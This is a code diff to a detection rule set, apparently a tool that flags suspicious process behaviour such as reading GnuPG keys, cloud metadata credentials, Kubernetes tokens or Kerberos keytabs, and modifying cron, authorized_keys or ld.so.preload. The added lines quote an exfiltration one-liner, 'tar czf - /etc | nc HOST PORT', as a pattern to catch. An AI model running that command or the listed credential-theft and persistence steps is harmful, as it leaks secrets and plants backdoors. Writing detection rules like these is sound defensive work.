@@ -164,7 +164,9 @@ enum Feature {
             + "to be listed (find walking through ~/.gnupg/private-keys-v1.d); or, as a downloader, shell or interpreter "
             + "given its program on its command line, asked a cloud's metadata service (169.254.169.254) for an instance "
             + "role's or service account's credentials; or, as such a tool or a file viewer or copier (cat, base64, cp, "
-            + "curl, ...), read a Kubernetes service account's token or a Kerberos keytab or ticket cache"),
+            + "curl, ...), read a Kubernetes service account's token or a Kerberos keytab or ticket cache; or, holding an inet "
+            + "connection, read its stdin from a pipe a family member that read such a file writes into (tar czf - /etc | nc "
+            + "HOST PORT; not ssh, rsync, aws, rclone, restic, borg)"),
     IND_PERSISTENCE("ind.persistence", 3, "modified a cron file, systemd unit, init script, xdg autostart entry, shell rc "
             + "file (not a home one in a directory made during the trace), authorized_keys, ~/.ssh/rc, ld.so.preload or a kernel "
             + "setting naming a program the kernel runs as root (core_pattern, modprobe, uevent_helper), a script root runs "
